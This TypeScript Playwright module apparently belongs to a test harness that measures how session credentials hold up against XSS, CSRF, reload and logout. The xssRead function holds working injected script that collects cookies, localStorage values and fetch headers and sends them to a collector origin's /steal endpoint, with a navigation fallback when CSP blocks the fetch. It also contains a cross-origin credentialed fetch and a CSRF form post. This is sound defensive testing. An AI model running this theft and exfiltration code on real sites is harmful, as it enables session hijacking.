import type { Page, Response } from 'playwright-core'
import type { BrowserAttempt, BrowserRow } from './browser-section.js'
import type { OtherOrigin } from './other-origins.js'
import type { WireTap } from './wire-tap.js'
import { carriesCredential, type Victim } from './victim.js'

/**
 * The experiments, each on a logged-in victim. The injected scripts are what an attacker's XSS
 * payload would be, run in the page's own origin through the debugging protocol: that stands for a
 * script that got past the CSP (a compromised file of the site itself, a CSP bypass). Everything
 * is then observed: what the script found, what reached the other origin, what the server answered.
 */

const isRequestTo = (url: string) => (response: Response) => response.url() === url

/** Runs `script` in `page` and returns the API's answer to the request it makes for `path`. */
async function answerTo(
  page: Page,
  api: WireTap,
  [method, path]: [string, string],
  script: string,
  victim: Victim,
): Promise<BrowserAttempt> {
  const [response] = await Promise.all([page.waitForResponse(isRequestTo(`${api.url}${path}`)), page.evaluate(script)])
  const attached = carriesCredential(api.lastRequest(method, path), victim.credential)
  return { credential_attached: attached, status: response.status() }
}

/** XSS ride: the injected script calls the API as the page would, adding nothing of its own. */
export const xssRide = (victim: Victim, api: WireTap) =>
  answerTo(victim.demo.page, api, ['GET', '/api/me'], `fetch('/api/me').then((r) => r.status)`, victim)

/**
 * XSS read: look in document.cookie and localStorage at once, and wrap fetch to catch the
 * credential headers of the page's next call (a token in memory has no name a script could use, but
 * it goes by on every request). Then send the loot to another origin: by fetch, and when the CSP's
 * connect-src refuses that, by navigating the tab there (no CSP directive stops a navigation).
 */
export async function xssRead(victim: Victim, collector: OtherOrigin): Promise<BrowserRow['xss_read']> {
  const { page } = victim.demo
  const headerNames = JSON.stringify(Object.keys(victim.credential.headers))
  await page.evaluate(`(() => {
    const loot = []
    if (document.cookie) loot.push(['document.cookie', document.cookie])
    for (let i = 0; i < localStorage.length; i++) loot.push(['localStorage', localStorage.getItem(localStorage.key(i))])
    const original = window.fetch
    window.fetch = (input, init) => {
      new Headers(init?.headers).forEach((value, name) => {
        if (${headerNames}.includes(name)) loot.push(['fetch hook', value])
      })
      return original(input, init)
    }
    window.__loot = loot
  })()`)
  await victim.demo.me() // the user keeps using the page
  const loot = (await page.evaluate('window.__loot')) as [string, string][]
  const found = loot.find(([, value]) => victim.secrets.some((secret) => value.includes(secret)))
  const steal = `${collector.url}/steal?d=${encodeURIComponent(JSON.stringify(loot))}`
  const cspBlocked = (await page.evaluate(
    `fetch(${JSON.stringify(steal)}, { mode: 'no-cors' }).then(() => false, () => true)`,
  )) as boolean
  if (cspBlocked) {
    await Promise.all([
      page.waitForURL((url) => url.href.startsWith(collector.url)),
      page.evaluate(`location.href = ${JSON.stringify(steal)}`),
    ])
  }
  const exfiltrated = collector.received.some((data) => victim.secrets.some((secret) => data.includes(secret)))
  return { found_in: found?.[0] ?? null, exfiltrated, csp_blocked_fetch: cspBlocked }
}

/**
 * Another origin's page, in `tab`, a tab of the victim's browser: a credentialed fetch of /api/me, then
 * a form posting to /auth/logout, as CSRF does. The fetch is `no-cors`: the page cannot read the
 * answer (it could not with CORS either: the API sends no CORS headers), but the request is made,
 * cookies and all, and the browser hands the answer to the debugger instead of failing the request.
 */
export async function fromOtherOrigin(
  victim: Victim,
  origin: OtherOrigin,
  api: WireTap,
  tab: Page,
): Promise<{ fetch: BrowserAttempt; form_post: BrowserAttempt }> {
  await tab.goto(`${origin.url}/attack?target=${encodeURIComponent(api.url)}`)
  const fetchAttempt = await answerTo(
    tab,
    api,
    ['GET', '/api/me'],
    `fetch(${JSON.stringify(`${api.url}/api/me`)}, { mode: 'no-cors', credentials: 'include' })`,
    victim,
  )
  const formPost = await answerTo(tab, api, ['POST', '/auth/logout'], `document.getElementById('f').submit()`, victim)
  await tab.waitForURL(`${api.url}/auth/logout`) // the form's navigation, finished before the tab moves on
  return { fetch: fetchAttempt, form_post: formPost }
}

/** Reload, then a new tab: the status of the /api/me call the page makes when it opens. */
export async function reloadAndNewTab(victim: Victim, newTab: () => Promise<number>) {
  const reload_status = (await victim.demo.reload()).status()
  return { reload_status, new_tab_status: await newTab() }
}

/**
 * Logout through the page, then: is the credential still anywhere in the browser (cookie jar,
 * localStorage, the page's next request), and does the server still take it from outside?
 */
export async function logout(victim: Victim, api: WireTap): Promise<BrowserRow['logout']> {
  const { demo, context, secrets, credential } = victim
  const status = (await demo.logout()).status()
  const holds = (text: string) => secrets.some((secret) => text.includes(secret))
  const jar = (await context.cookies(api.url)).map((cookie) => cookie.value)
  const storage = String(await demo.page.evaluate('JSON.stringify(localStorage)'))
  await demo.me()
  const left_in_browser =
    jar.some(holds) || holds(storage) || carriesCredential(api.lastRequest('GET', '/api/me'), credential)
  const replay = await fetch(`${api.url}/api/me`, { headers: credential.headers })
  return { status, left_in_browser, replay_status: replay.status }
}
